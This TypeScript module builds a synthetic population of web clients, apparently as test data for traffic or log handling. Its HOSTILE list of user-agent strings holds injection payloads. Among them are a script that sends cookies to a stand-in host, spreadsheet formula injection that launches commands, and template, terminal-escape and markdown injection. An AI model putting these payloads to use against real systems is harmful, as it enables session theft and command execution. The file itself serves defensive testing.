import type { Random } from './random.ts';

/** Addresses are from the blocks that are kept for documentation (RFC 5737, RFC 3849). */
export interface Client {
  readonly address: string;
  readonly country: string;
  readonly userAgent: string;
  readonly ja3: string;
  readonly ja4: string;
  readonly http2: boolean;
}

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0',
] as const;

/** What scanners and jokers write where a browser's name belongs. Every line of it is hostile. */
const HOSTILE = [
  'sqlmap/1.9.4#stable (https://sqlmap.org)',
  '<script>fetch("//198.51.100.66/?"+document.cookie)</script>',
  '<img src=x onerror=alert(1)> <!channel> <@U000000>',
  "=cmd|'/C calc'!A0",
  '\u001b[31mALERT\u001b[0m\u001b]0;owned\u0007',
  'Mozilla/5.0 \u202egnp.exe\u202c \u200bzero\u200bwidth',
  '{{constructor.constructor("return process")()}} ${7*7} {{{raw}}}',
  '[click](javascript:alert(1)) | cell | `code`',
  "@SUM(1+1)*cmd|' /C calc'!A0",
] as const;

const SCRAPERS = [
  'python-requests/2.32.4',
  'Go-http-client/2.0',
  'Scrapy/2.13.3 (+https://scrapy.org)',
  'Mozilla/5.0 (compatible; PriceWatchBot/1.4)',
  'curl/8.16.0',
] as const;

const COUNTRIES = ['NL', 'DE', 'US', 'BR', 'VN', 'RO', '-'] as const;

function clientOf(address: string, userAgent: string, random: Random): Client {
  return {
    address,
    country: random.pick(COUNTRIES),
    userAgent,
    ja3: random.hex(32),
    ja4: `t13d${random.whole(12, 19)}${random.whole(10, 16)}h2_${random.hex(12)}_${random.hex(12)}`,
    http2: random.next() < 0.6,
  };
}

export interface Population {
  readonly attackers: readonly [Client, ...Client[]];
  readonly scrapers: readonly [Client, ...Client[]];
  readonly customers: readonly [Client, ...Client[]];
}

export function populationOf(random: Random): Population {
  const clients = (
    count: number,
    address: (index: number) => string,
    userAgents: readonly [string, ...string[]],
  ): readonly [Client, ...Client[]] => {
    const made = (index: number) =>
      clientOf(address(index), userAgents[index % userAgents.length] ?? '', random);
    return [made(0), ...Array.from({ length: count - 1 }, (_, index) => made(index + 1))];
  };
  return {
    attackers: clients(
      18,
      (index) => (index < 15 ? `203.0.113.${7 + index * 11}` : `2001:db8:bad::${(index - 14).toString(16)}`),
      HOSTILE,
    ),
    scrapers: clients(60, (index) => `198.51.100.${2 + index * 4}`, SCRAPERS),
    customers: clients(48, (index) => `192.0.2.${3 + index * 5}`, BROWSERS),
  };
}
